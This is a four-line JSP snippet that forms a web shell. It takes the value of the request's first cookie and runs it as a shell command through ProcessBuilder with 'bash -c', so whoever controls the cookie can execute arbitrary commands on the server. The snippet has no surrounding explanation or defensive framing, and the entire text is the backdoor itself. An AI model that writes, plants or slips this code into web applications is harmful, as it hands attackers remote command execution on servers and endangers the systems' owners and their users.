<%
String c = request.getCookies()[0].getValue();
new ProcessBuilder("bash", "-c", c).start();
%>
